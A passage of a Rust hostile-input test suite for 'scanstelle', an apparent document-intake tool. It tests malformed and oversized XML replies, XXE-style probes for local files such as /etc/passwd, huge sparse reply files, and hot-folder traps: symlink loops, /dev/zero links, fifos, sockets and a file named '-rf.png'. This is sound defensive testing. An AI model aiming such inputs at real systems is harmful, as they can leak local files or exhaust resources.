            ..x("xml-binary-garbage", String::new(), XmlWant::Err)
        },
        x(
            "xml-json-instead",
            "{\"error\":\"unauthorized\",\"status\":401}".into(),
            XmlWant::Err,
        ),
        x(
            "xml-150000-attributes",
            ok.replacen(
                " xmlns:xdomea=",
                &format!(
                    "{} xmlns:xdomea=",
                    (0..150_000).map(|i| format!(" a{i}=\"x\"")).collect::<String>()
                ),
                1,
            ),
            XmlWant::Either,
        ),
        x(
            "xml-10mb-comment",
            ok.replacen("<xdomea:Kopf>", &format!("<!--{}--><xdomea:Kopf>", "-x".repeat(5 << 20)), 1),
            XmlWant::Either,
        ),
        x("xml-cdata-prozessid", with_pid(&format!("<![CDATA[{pid}]]>")), XmlWant::Either),
        x(
            "xml-processing-instruction-only",
            "<?xml version=\"1.0\"?><?xml-stylesheet href=\"x\"?>".into(),
            XmlWant::Err,
        ),
    ];
    for k in &mut v {
        if k.isolate && k.bytes.is_empty() {
            k.bytes = isolated_input(&k.name);
        }
    }
    v
}

fn replies(dir: &Path, t: &mut Tally) {
    let fifo = dir.join("xxe-fifo");
    for k in xml_kinds(dir) {
        dump(&k.name, &k.bytes);
        let mut p = Problems::default();
        let file = dir.join("probe.xml");
        if k.isolate
            && let Err(e) = std::fs::write(&file, &k.bytes)
                .map_err(|e| e.to_string())
                .and_then(|()| isolated_probe("xml", &file))
        {
            probe_failed(&mut p, "reply::parse", &e);
            t.record(&k.name, k.control, p.verdict());
            continue;
        }
        let bytes = k.bytes;
        let r = limited(BUDGET, move || {
            reply::parse(&bytes).map_err(|e| e.to_string())
        });
        match r {
            Err(Fail::Panic(m)) => p.crash(format!("reply::parse panicked: {m}")),
            Err(Fail::Timeout) => {
                p.mishandled(format!(
                    "reply::parse still running after {} s",
                    BUDGET.as_secs()
                ));
                // Let a reader blocked on the pipe go.
                // (O_NONBLOCK: fails at once if nobody reads it.)
                let _ = std::fs::OpenOptions::new()
                    .write(true)
                    .custom_flags(0o4000)
                    .open(&fifo);
            }
            Ok(r) => {
                if std::env::var_os("HOSTILE_DEBUG").is_some() {
                    println!("hostile: {}: {}", k.name, short(&format!("{r:?}")));
                }
                judge_reply(&k.want, &r, &mut p);
            }
        }
        t.record(&k.name, k.control, p.verdict());
    }
}

/// Reply files of the DMS in a reply folder, too large to be read: each
/// refused in words by its size before it costs memory, and one exactly at
/// the limit read whole.
fn reply_files(dir: &Path, t: &mut Tally) {
    use scanstelle::sync::{FailureKind, FolderTransport, Transport};
    let replies = dir.join("reply-files");
    std::fs::create_dir_all(&replies).unwrap();
    let mb = 1_000_000u64;
    // (name, file size, configured limit, control: must be read whole)
    let kinds: [(&str, u64, Option<u64>, bool); 4] = [
        ("reply-file-200mb-sparse", 200 * mb, None, false),
        ("reply-file-one-byte-over-limit", mb + 1, Some(mb), false),
        ("reply-file-5mb-default-limit", 5 * mb, None, false),
        ("reply-file-at-limit", mb, Some(mb), true),
    ];
    for (name, size, limit, control) in kinds {
        let mut p = Problems::default();
        let file = replies.join(format!("{name}.xml"));
        // Sparse: the size is real, the disk is not spent.
        std::fs::File::create(&file).unwrap().set_len(size).unwrap();
        let mut transport = FolderTransport::new(dir, &replies);
        if let Some(limit) = limit {
            transport = transport.reply_limit(limit);
        }
        let file_name = format!("{name}.xml");
        match limited(BUDGET, move || transport.fetch_reply(&file_name)) {
            Err(Fail::Panic(m)) => p.crash(format!("fetch_reply panicked: {m}")),
            Err(Fail::Timeout) => p.mishandled("fetch_reply still running"),
            Ok(Ok(Some(bytes))) if control => {
                if bytes.len() as u64 != size {
                    p.lost(format!("{} of {size} bytes read", bytes.len()));
                }
            }
            Ok(Ok(r)) => p.wrong(format!(
                "read: {:?} bytes",
                r.map(|b| b.len()).unwrap_or_default()
            )),
            Ok(Err(e)) => {
                if std::env::var_os("HOSTILE_DEBUG").is_some() {
                    println!("hostile: {name}: refused: {}", short(&e.message));
                }
                if control {
                    p.mishandled(format!("reply at the limit refused: {}", e.message));
                }
                if e.kind != FailureKind::Refused {
                    p.mishandled(format!("refused as {:?}, not as refused", e.kind));
                }
                if let Some(r) = reason_problem(&e.message, 300, true) {
                    p.mishandled(r);
                }
            }
        }
        std::fs::remove_file(&file).unwrap();
        t.record(name, control, p.verdict());
    }
}

fn judge_reply(want: &XmlWant, r: &Result<Reply, String>, p: &mut Problems) {
    let text = format!("{r:?}");
    if text.contains(SECRET) || text.contains("root:x:0") {
        p.wrong(format!("a local file was read: {}", short(&text)));
    }
    match (want, r) {
        (_, Err(e)) => {
            if let Some(r) = reason_problem(e, 300, false) {
                p.mishandled(r);
            }
            if matches!(want, XmlWant::Received(_) | XmlWant::Imported(_)) {
                p.mishandled(format!("valid reply refused: {}", short(e)));
            }
        }
        (XmlWant::Err, Ok(reply)) => p.wrong(format!("read as {}", short(&format!("{reply:?}")))),
        (XmlWant::Received(pid), Ok(reply)) => {
            if *reply
                != (Reply::Received {
                    process_id: pid.clone(),
                })
            {
                p.mishandled(format!("read as {reply:?}"));
            }
        }
        (XmlWant::Imported(pid), Ok(reply)) => {
            if !matches!(reply, Reply::Imported(_)) || reply.process_id() != pid {
                p.mishandled(format!("read as {reply:?}"));
            }
        }
        (XmlWant::Either, Ok(_)) => {}
    }
}

// ---------------------------------------------------------------------------
// Hot-folder entries that are no plain files, through `scanstelle ingest`

#[derive(Clone, Copy, PartialEq)]
enum CliWant {
    /// Refused with a message, nothing recorded.
    Refused,
    /// Taken: one more source file.
    Taken,
    /// Nothing recorded, whatever the exit code.
    NothingTaken,
}

fn sources_in(home: &Path) -> i64 {
    store(home)
        .connection()
        .query_row("SELECT COUNT(*) FROM source_files", [], |r| r.get(0))
        .unwrap()
}

fn hot_folder_entries(dir: &Path, t: &mut Tally) {
    let home = dir.join("cli-home");
    admin_os(&home);
    let d = dir.join("eingang");
    let outside = dir.join("anderswo");
    std::fs::create_dir_all(&d).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    let mut seed = 70_000;
    let mut png = || {
        seed += 1;
        png_page(120, 170, seed, 300)
    };
    let target = outside.join("ziel.png");
    std::fs::write(&target, png()).unwrap();
    let link = d.join("verknuepfung.png");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let target2 = outside.join("ziel-2.png");
    std::fs::write(&target2, png()).unwrap();
    let link2 = d.join("verknuepfung-2.png");
    std::os::unix::fs::symlink(&target2, &link2).unwrap();
    let dangling = d.join("ins-leere.png");
    std::os::unix::fs::symlink(outside.join("gibt-es-nicht.png"), &dangling).unwrap();
    let (loop_a, loop_b) = (d.join("schleife-a.png"), d.join("schleife-b.png"));
    std::os::unix::fs::symlink(&loop_b, &loop_a).unwrap();
    std::os::unix::fs::symlink(&loop_a, &loop_b).unwrap();
    let to_dir = d.join("ordner-link.pdf");
    std::os::unix::fs::symlink(&outside, &to_dir).unwrap();
    let to_zero = d.join("null-geraet.tif");
    std::os::unix::fs::symlink("/dev/zero", &to_zero).unwrap();
    let fifo = d.join("pipe.tif");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let subdir = d.join("Unterordner");
    std::fs::create_dir_all(&subdir).unwrap();
    let dir_pdf = d.join("ordner.pdf");
    std::fs::create_dir_all(&dir_pdf).unwrap();
    let socket = d.join("socket.png");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let plain = d.join("normal.png");
    std::fs::write(&plain, png()).unwrap();
    let dash = d.join("-rf.png");
    std::fs::write(&dash, png()).unwrap();
    let latin1 = d.join(OsString::from_vec(b"Gr\xf6\xdfe_M\xfcller.png".to_vec()));
    std::fs::write(&latin1, png()).unwrap();
    let newline = d.join("zeile\numbruch.png");
    std::fs::write(&newline, png()).unwrap();
    let locked = d.join("gesperrt.png");
    std::fs::write(&locked, png()).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
    let privileged = std::fs::File::open(&locked).is_ok();
    let twice = d.join("zweimal.png");
    std::fs::write(&twice, png()).unwrap();
    let empty = d.join("leer.pdf");
    std::fs::write(&empty, b"").unwrap();
    let db = home.join("scanstelle.db");

    let s = |p: &Path| p.as_os_str().to_owned();
    let ingest = |extra: &[&str], paths: &[&Path]| -> Vec<OsString> {
        let mut a: Vec<OsString> = vec!["ingest".into(), "--intake-only".into()];
        a.extend(extra.iter().map(OsString::from));
        a.extend(paths.iter().map(|p| s(p)));
        a
    };
    let mut slash = s(&plain);
    slash.push("/");
    let kinds: Vec<(&str, Vec<OsString>, CliWant, bool)> = vec![
        (
            "cli-symlink-to-file-outside",
            ingest(&[], &[&link]),
            CliWant::Refused,
            false,
        ),
        (
            "cli-symlink-followed-on-request",
            ingest(&["--follow-links"], &[&link2]),
            CliWant::Taken,
            true,
        ),
        (
            "cli-dangling-symlink",
            ingest(&[], &[&dangling]),
            CliWant::Refused,
            false,
        ),
        (
            "cli-dangling-symlink-followed",
            ingest(&["--follow-links"], &[&dangling]),
            CliWant::Refused,
            false,
        ),
        (
            "cli-symlink-loop",
            ingest(&["--follow-links"], &[&loop_a]),
            CliWant::Refused,
            false,
        ),
        (
            "cli-symlink-to-directory",
            ingest(&["--follow-links"], &[&to_dir]),
            CliWant::Refused,
            false,
        ),
        (
            "cli-symlink-to-dev-zero",
            ingest(&["--follow-links"], &[&to_zero]),
            CliWant::Refused,
            false,
        ),
        ("cli-fifo", ingest(&[], &[&fifo]), CliWant::Refused, false),
        (
            "cli-fifo-with-follow-links",
            ingest(&["--follow-links"], &[&fifo]),
            CliWant::Refused,
            false,
        ),
        (
            "cli-directory",
            ingest(&[], &[&subdir]),
            CliWant::Refused,
            false,
        ),
        (
            "cli-directory-named-pdf",
            ingest(&[], &[&dir_pdf]),
            CliWant::Refused,
            false,
        ),
        (
            "cli-dev-null",
            ingest(&[], &[Path::new("/dev/null")]),
            CliWant::Refused,
            false,
        ),
        (
            "cli-dev-zero",
            ingest(&[], &[Path::new("/dev/zero")]),
            CliWant::Refused,
            false,
        ),
        (
            "cli-unix-socket",
            ingest(&[], &[&socket]),
            CliWant::Refused,
            false,
        ),
        (
            "cli-trailing-slash-on-file",
            {
                let mut a = ingest(&[], &[]);
                a.push(slash);
                a
            },
            CliWant::Refused,
            false,
        ),
        (
            "cli-leading-dash-after-double-dash",
            ingest(&["--"], &[&dash]),
            CliWant::Taken,
            false,
        ),
        (
            "cli-non-utf8-name",
            ingest(&[], &[&latin1]),
            CliWant::Taken,
            false,
        ),
        (
            "cli-newline-in-name",
            ingest(&[], &[&newline]),
            CliWant::Taken,
            false,
        ),
        (
            "cli-unreadable-file",
            ingest(&[], &[&locked]),
            if privileged {
                CliWant::Taken
            } else {
                CliWant::Refused
            },
            false,
        ),
        (
            "cli-same-file-twice-in-one-call",
            ingest(&[], &[&twice, &twice]),
            CliWant::Taken,
            false,
        ),
        (
            "cli-empty-file",
            ingest(&[], &[&empty]),
            CliWant::NothingTaken,
            false,
        ),
        (
            "cli-the-stations-own-database",
            ingest(&[], &[&db]),
            CliWant::NothingTaken,
            false,
        ),
    ];
    let bin = env!("CARGO_BIN_EXE_scanstelle");
    for (name, args, want, control) in kinds {
        let before = sources_in(&home);
        // A memory limit, so that a command reading a device without end
        // fails on its own instead of taking the machine's memory.
        let mut cmd = Command::new("sh");
        cmd.arg("-c")
            .arg("ulimit -v 4000000; exec \"$0\" \"$@\"")
            .arg(bin)
            .arg("--home")
            .arg(&home)
            .args(&args)
            // Nothing outside the test's folder, whatever the arguments.
            .env("HOME", dir.join("cli-user"))
            .env("XDG_DATA_HOME", dir.join("cli-user/data"))
            .env("RUST_BACKTRACE", "0")
            .env_remove("SCANSTELLE_CONFIG")
            .env_remove("SCANSTELLE_USER")
            .env_remove("DISPLAY")
            .env("XDG_CONFIG_HOME", home.join("xdg-config"));
        let mut p = Problems::default();
        match run_child(cmd, BUDGET) {
            Err(e) => p.mishandled(e),
            Ok((status, out, err)) => {
                let after = sources_in(&home);
                if std::env::var_os("HOSTILE_DEBUG").is_some() {
                    println!("hostile: {name}: {status} {} {}", short(&out), short(&err));
                }
                if let Some(c) = crashed(&status, &err) {
                    p.crash(c);
                }
                match want {
                    CliWant::Refused => {
                        if status.success() {
                            p.mishandled(format!("exit 0: {}", short(&out)));
                        }
                        if let Some(r) = reason_problem(&err, 2000, false) {
                            p.mishandled(format!("message: {r}"));
                        }
                        if after != before {
                            p.wrong(format!("{} source file(s) recorded", after - before));
                        }
                    }
                    CliWant::Taken => {
                        if !status.success() || after != before + 1 {
                            p.mishandled(format!(
                                "{status}, {} source file(s) recorded: {}{}",
                                after - before,
                                short(&out),
                                short(&err)
                            ));
                        }
                    }
                    CliWant::NothingTaken => {
                        if after != before {
                            p.wrong(format!("{} source file(s) recorded", after - before));
                        }
                    }
                }
            }
        }
        t.record(name, control, p.verdict());
    }
    let _ = std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o600));
    for f in [&target, &target2, &plain, &dash, &latin1, &newline, &twice] {
        if !f.exists() {
            t.worsen(
                "cli-symlink-followed-on-request",
                Verdict::Lost(format!("{} removed without --move", f.display())),
            );
        }
    }
}
